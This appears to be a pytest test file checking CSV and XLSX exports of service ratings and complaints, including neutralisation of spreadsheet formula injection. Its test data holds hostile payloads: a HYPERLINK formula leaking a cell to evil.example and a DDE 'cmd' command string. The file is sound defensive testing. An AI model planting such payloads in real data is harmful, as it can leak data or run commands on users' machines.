"""The quality exports: ratings and complaints as CSV and XLSX, in the person's language, under the
dashboard's filters, with every cell a spreadsheet could run neutralised."""

from __future__ import annotations

import codecs
import csv
import io
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from urllib.parse import quote

import pytest
from openpyxl import load_workbook

from hk.aftersales import cases, remedies
from hk.domain.complaints import CaseAction, Category, Channel, RemedyKind, Severity
from hk.extensions import db
from hk.models import Rating, Role
from hk.quality.exports import csv_chunks, neutralise, write_xlsx
from tests.builders import make_customer, make_job, make_user, service_type

NOVEMBER = "period=custom&first=2026-11-01&last=2026-11-30"
RISKY = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for a refund")',
    "+1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1",
    "\r=1",
]


def at(day: int, hour: int = 2, month: int = 11) -> datetime:
    """A moment in 2026 (UTC): 02:00 UTC is 10:00 in Shanghai."""
    return datetime(2026, month, day, hour, tzinfo=UTC)


def rate(job, overall=5, comment="", **scores) -> Rating:
    values = {"quality": 4, "punctuality": 5, "attitude": 5, "price": 3, "recommend": 9, **scores}
    rating = Rating(
        job=job,
        customer_id=job.customer_id,
        worker_id=job.worker_id,
        overall=overall,
        comment=comment,
        rated_at=job.scheduled_start + timedelta(hours=4),
        **values,
    )
    db.session.add(rating)
    db.session.commit()
    return rating


def read_csv(response) -> list[list[str]]:
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    body = response.get_data()
    assert body.startswith(codecs.BOM_UTF8)  # Excel reads the Chinese as UTF-8
    return list(csv.reader(io.StringIO(body[len(codecs.BOM_UTF8) :].decode("utf-8"), newline="")))


def read_xlsx(response):
    assert response.status_code == 200
    assert response.headers["Content-Type"].startswith("application/vnd.openxmlformats")
    body = response.get_data()
    assert int(response.headers["Content-Length"]) == len(body)
    return load_workbook(io.BytesIO(body)).active


def test_ratings_as_csv_in_chinese_with_the_period_in_the_file_name(client, login):
    login(Role.SUPERVISOR)
    worker = make_user(Role.WORKER)
    customer = make_customer(name="周女士")
    # 01:00 on 1 November in Shanghai (still October in UTC), and 00:30 on 1 December (November in UTC)
    first = make_job(worker, customer, start=datetime(2026, 10, 31, 17, tzinfo=UTC))
    after = make_job(worker, customer, start=datetime(2026, 11, 30, 16, 30, tzinfo=UTC))
    unrated = make_job(worker, customer, start=at(12))
    rating = rate(first, 2, "厨房没擦干净", recommend=3)
    rate(after, 5)
    case = cases.open_case(
        customer=customer,
        job=first,
        channel=Channel.SURVEY,
        category=Category.CLEANING_QUALITY,
        description="低分",
        client_key="survey",
        actor=None,
        received_at=at(1),
        now=at(1),
    )
    rating.complaint_id = case.id
    db.session.commit()

    response = client.get(f"/quality/export/ratings.csv?{NOVEMBER}")
    rows = read_csv(response)
    assert rows[0] == [
        "工单号",
        "服务日期",
        "客户",
        "服务人员",
        "服务项目",
        "总体评价",
        "清洁质量",
        "准时",
        "服务态度",
        "价格透明",
        "推荐意愿（0–10）",
        "客户留言",
        "评价时间",
        "投诉编号",
    ]
    assert rows[1:] == [
        [
            first.number,
            "2026-11-01",
            "周女士",
            worker.display_name,
            service_type().name_zh,
            "2",
            "4",
            "5",
            "5",
            "3",
            "3",
            "厨房没擦干净",
            "2026-11-01 05:00",  # rated four hours after the job's start, in Shanghai time
            case.number,
        ]
    ]
    assert unrated.number not in response.get_data(as_text=True)
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith('attachment; filename="ratings-2026-11-01_2026-11-30.csv"; ')
    assert disposition.endswith("filename*=UTF-8''" + quote("评价-2026-11-01_2026-11-30.csv"))
    assert response.headers["Cache-Control"] == "private, no-store"
    streamed = client.get(f"/quality/export/ratings.csv?{NOVEMBER}", buffered=False)
    assert streamed.is_streamed and "Content-Length" not in streamed.headers
    streamed.close()


def _cases(supervisor, worker, other_worker, job):
    """Three cases received in November (one resolved with remedies, one about a job, one with no
    job) and one received in October."""
    resolved = cases.open_case(
        customer=job.customer,
        job=job,
        channel=Channel.PHONE,
        category=Category.DAMAGE_OR_LOSS,
        severity=Severity.HIGH,
        description="花瓶碎了",
        client_key="c1",
        actor=supervisor,
        received_at=at(5),
        now=at(5),
    )
    cases.reply(resolved, supervisor, "抱歉，我们马上处理", "r1", now=at(5) + timedelta(hours=5, minutes=30))
    for key, kind, amount, text in (
        ("m1", RemedyKind.COMPENSATION, Decimal("80"), "花瓶"),
        ("m2", RemedyKind.COMPENSATION, Decimal("500"), "地板"),  # above 200: waits for an admin
        ("m3", RemedyKind.APOLOGY, None, "电话道歉"),
    ):
        remedies.propose(
            resolved,
            supervisor,
            kind,
            key,
            amount=amount,
            description=text,
            threshold=Decimal("200"),
            by_admin=False,
        )
    cases.act(
        resolved,
        CaseAction.RESOLVE,
        supervisor,
        root_cause="搬动时不小心",
        responsible_worker=other_worker,
        now=at(6, 8),
    )
    unanswered = cases.open_case(
        customer=job.customer,
        job=job,
        channel=Channel.SURVEY,
        category=Category.LATENESS,
        description="迟到",
        client_key="c2",
        actor=None,
        received_at=at(20),
        now=at(20),
    )
    no_job = cases.open_case(
        customer=make_customer(name="=cmd|' /C calc'!A0"),
        job=None,
        channel=Channel.EMAIL,
        category=Category.OTHER,
        description="发票",
        client_key="c3",
        actor=supervisor,
        received_at=at(21),
        now=at(21),
    )
    cases.open_case(
        customer=job.customer,
        job=job,
        channel=Channel.PHONE,
        category=Category.ATTITUDE,
        description="十月的",
        client_key="c4",
        actor=supervisor,
        received_at=at(20, month=10),
        now=at(20, month=10),
    )
    return resolved, unanswered, no_job


def test_complaints_as_xlsx_numbers_stay_numbers_and_codes_are_words(client, login):
    supervisor = login(Role.SUPERVISOR)
    worker, other = make_user(Role.WORKER), make_user(Role.WORKER)
    job = make_job(worker, start=at(3))
    resolved, unanswered, no_job = _cases(supervisor, worker, other, job)

    sheet = read_xlsx(client.get(f"/quality/export/complaints.xlsx?{NOVEMBER}"))
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert sheet.title == "投诉"
    assert rows[0][:3] == ["投诉编号", "受理时间", "投诉渠道"] and len(rows) == 4
    assert [r[0] for r in rows[1:]] == [resolved.number, unanswered.number, no_job.number]
    first = dict(zip(rows[0], rows[1], strict=True))
    assert first["受理时间"] == datetime(2026, 11, 5, 10, 0)  # Shanghai time, a real date and time
    assert (first["投诉渠道"], first["类别"], first["严重程度"], first["状态"]) == (
        "电话",
        "损坏或丢失",
        "高",
        "已办结",
    )
    assert first["工单号"] == job.number and first["本单服务人员"] == worker.display_name
    assert first["责任服务人员"] == other.display_name
    assert first["首次响应时间"] == datetime(2026, 11, 5, 15, 30)
    assert first["首次响应用时（小时）"] == 5.5
    assert first["办结时间"] == datetime(2026, 11, 6, 16, 0)
    assert first["办结用时（小时）"] == 30.0
    assert first["补救金额（元）"] == 80  # the sum waiting for an admin is not counted yet
    assert first["补救措施"].count("赔偿") == 2 and "¥500.00" in first["补救措施"]
    assert first["重新打开次数"] == 0
    last = dict(zip(rows[0], rows[3], strict=True))
    assert last["工单号"] is None and last["首次响应用时（小时）"] is None
    assert last["客户"] == "'=cmd|' /C calc'!A0"


def test_english_headings_for_an_english_reader(client, login):
    login(make_user(Role.ADMIN, locale="en"))
    rows = read_csv(client.get(f"/quality/export/complaints.csv?{NOVEMBER}"))
    assert rows == [rows[0]] and rows[0][:4] == [
        "Complaint number",
        "Received at",
        "How it came in",
        "Category",
    ]
    sheet = read_xlsx(client.get(f"/quality/export/ratings.xlsx?{NOVEMBER}"))
    assert sheet.title == "Ratings" and sheet["A1"].value == "Job number" and sheet.max_row == 1


def test_the_filters_pick_the_service_and_the_worker(client, login):
    supervisor = login(Role.SUPERVISOR)
    worker, other = make_user(Role.WORKER), make_user(Role.WORKER)
    job = make_job(worker, start=at(3))
    deep = make_job(other, start=at(4), code="deep_cleaning")
    rate(job)
    rate(deep)
    resolved, unanswered, _no_job = _cases(supervisor, worker, other, job)

    def numbers(table, **query):
        args = "&".join(f"{k}={v}" for k, v in query.items())
        return [row[0] for row in read_csv(client.get(f"/quality/export/{table}.csv?{NOVEMBER}&{args}"))[1:]]

    assert numbers("ratings", worker=worker.id) == [job.number]
    assert numbers("ratings", worker=other.id) == [deep.number]
    assert numbers("ratings", service_type=deep.service_type_id) == [deep.number]
    # by worker: the one found responsible, or else the job's
    assert numbers("complaints", worker=other.id) == [resolved.number]
    assert numbers("complaints", worker=worker.id) == [unanswered.number]
    assert numbers("complaints", service_type=job.service_type_id) == [resolved.number, unanswered.number]
    assert numbers("complaints", service_type=deep.service_type_id) == []


@pytest.mark.parametrize("path", ["ratings.csv", "ratings.xlsx", "complaints.csv", "complaints.xlsx"])
def test_an_empty_period_is_a_file_with_its_headings(client, login, path):
    login(Role.ADMIN)
    rate(make_job(make_user(Role.WORKER), start=at(3)))
    response = client.get(f"/quality/export/{path}?period=custom&first=2020-01-01&last=2020-01-31")
    if path.endswith(".csv"):
        assert len(read_csv(response)) == 1
    else:
        assert read_xlsx(response).max_row == 1
    assert "2020-01-01_2020-01-31" in response.headers["Content-Disposition"]


@pytest.mark.parametrize(
    "query",
    [
        "period=custom&first=2026-02-31&last=tomorrow",
        "period=fortnight&service_type=999999&worker=-1",
        "service_type=99999999999999999999999&worker=abc",
        "period=custom&first=0001-01-01&last=0001-01-02",
        "period=custom&first=9999-12-30&last=9999-12-31",
        "period=custom&first=2026-11-01",
    ],
)
def test_filters_that_make_no_sense_fall_back_never_a_500(client, login, query):
    login(Role.SUPERVISOR)
    for path in ("ratings.csv", "complaints.xlsx"):
        response = client.get(f"/quality/export/{path}?{query}")
        assert response.status_code == 200, (path, response.status_code)
        response.get_data()


def test_hostile_text_is_neutralised_in_the_csv_and_the_xlsx(client, login):
    login(Role.SUPERVISOR)
    worker = make_user(Role.WORKER)
    customer = make_customer(name="=cmd|' /C calc'!A0")
    jobs = [make_job(worker, customer, start=at(3, hour=h)) for h in range(len(HOSTILE))]
    for job, comment in zip(jobs, HOSTILE, strict=True):
        rate(job, 1, comment, recommend=0)

    response = client.get(f"/quality/export/ratings.csv?{NOVEMBER}")
    body = response.get_data()
    rows = read_csv(response)
    assert [row[11] for row in rows[1:]] == ["'" + text for text in HOSTILE]
    assert all(row[2] == "'=cmd|' /C calc'!A0" for row in rows[1:])
    assert all(not field.startswith(RISKY) for row in rows for field in row)
    assert b"\n=" not in body and b",=" not in body and b',"=' not in body
    assert b",'+1+1," in body and b",'-2+3," in body and b',"\'\r=1",' in body
    assert b',"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click for a refund"")",' in body

    sheet = read_xlsx(client.get(f"/quality/export/ratings.xlsx?{NOVEMBER}"))
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert all(not c.value.startswith(RISKY) for c in cells if isinstance(c.value, str))
    assert [row[11].value for row in sheet.iter_rows(min_row=2)] == ["'" + text for text in HOSTILE]
    assert {row[5].value for row in sheet.iter_rows(min_row=2)} == {1}  # scores are numbers
    assert {row[10].value for row in sheet.iter_rows(min_row=2)} == {0}


def test_one_function_neutralises_text_and_leaves_numbers_alone():
    assert neutralise("=1+1") == "'=1+1" and neutralise("-3") == "'-3" and neutralise("@x") == "'@x"
    assert neutralise("\t=1") == "'\t=1" and neutralise("\r=1") == "'\r=1"
    assert neutralise("a=1") == "a=1" and neutralise("") == "" and neutralise(None) is None
    assert neutralise("\x01=1") == "'=1"  # a control character cannot hide a formula
    assert neutralise(-3) == -3 and neutralise(Decimal("-2.50")) == Decimal("-2.50")
    row = (-3, Decimal("-2.50"), "-3", -0.5, date(2026, 11, 1), "x\x0by")

    text = b"".join(csv_chunks(["a", "b", "c", "d", "e", "f"], [row])).decode("utf-8-sig")
    assert text.splitlines()[1] == "-3,-2.50,'-3,-0.5,2026-11-01,xy"

    buffer = io.BytesIO()
    write_xlsx(buffer, "t", ["a", "b", "c", "d", "e", "f"], [row])
    cells = next(load_workbook(buffer).active.iter_rows(min_row=2))
    assert [c.value for c in cells] == [-3, -2.5, "'-3", -0.5, datetime(2026, 11, 1), "xy"]
    assert [c.data_type for c in cells] == ["n", "n", "s", "n", "d", "s"]
